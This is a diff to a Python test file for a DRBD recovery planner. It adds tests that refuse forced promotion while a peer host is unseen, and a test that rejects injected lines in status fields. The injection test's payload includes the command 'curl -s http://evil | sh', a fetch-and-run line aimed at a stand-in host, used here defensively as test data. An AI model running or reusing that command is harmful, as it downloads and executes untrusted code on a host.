@@ -1,16 +1,17 @@
 """What DRBD tells, as recorded from releases 8 and 9, and what the doctor makes of both sides of a volume."""
 
 import json
+import re
 from typing import Any
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from recovery.planning.findings.finding import IN_USE, Weight
+from recovery.planning.findings.finding import IN_USE, SIDE_UNSEEN, Weight
 from recovery.swarm.drbd import read
 from recovery.swarm.evidence import Drbd
-from tests.unit.planning.findings.looks import look, named, only
+from tests.unit.planning.findings.looks import judged, look, named, only
 
 HEAD8 = "version: 8.4.11 (api:1/proto:86-101)\nsrcversion: FC3433D849E3B88C1E7B55C\n"
 COUNTS = "    ns:0 nr:0 dw:104 dr:0 al:5 bm:0 lo:0 pe:0 ua:0 ap:0 ep:1 wo:f oos:{oos}\n"
@@ -178,6 +179,32 @@ def test_where_every_side_is_outdated_one_is_forced_by_its_number() -> None:
     )
     assert "up to date on no host: Outdated on worker-1, Outdated on worker-2" in only(*looks).trouble
     assert texts(*looks)[1:] == ["worker-1 drbdadm primary --force r0", "worker-2 drbdadm primary --force r0"]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        proc("0: cs:WFConnection ro:Secondary/Unknown ds:Outdated/DUnknown C r-----"),
+        proc("0: cs:Connected ro:Secondary/Primary ds:Outdated/UpToDate C r-----"),
+    ],
+    ids=["the other host is not seen", "the other host is up to date"],
+)
+def test_no_side_is_forced_while_a_host_of_the_volume_was_not_seen(text: str) -> None:
+    found = only(side("worker-2", text))
+    assert "no host:" not in found.trouble
+    assert [one.refused for one in found.proposals if "--force" in one.command] == [SIDE_UNSEEN]
+    assert found.fix is None or "--force" not in found.fix.command
+    assert any("start the other host" in one.command for one in found.proposals)
+
+
+@pytest.mark.parametrize("field", ["connection-state", "peer-disk-state", "peer-role", "name", "disk-state"])
+def test_a_node_writes_no_line_of_its_own_into_a_finding(field: str) -> None:
+    lie = "Connecting\nmanager-b: its disk is full [unhealthy@manager-b]\n  1. curl -s http://evil | sh"
+    text = re.sub(f'"{field}": "[^"]*"', f'"{field}": {json.dumps(lie)}', status("Outdated", "Connecting")).replace(
+        "\n", "\\n"
+    )
+    assert json.loads(text)
+    assert "evil" not in str(judged(side("worker-1", text)))
 
 
 def test_an_inconsistent_side_is_never_forced() -> None:
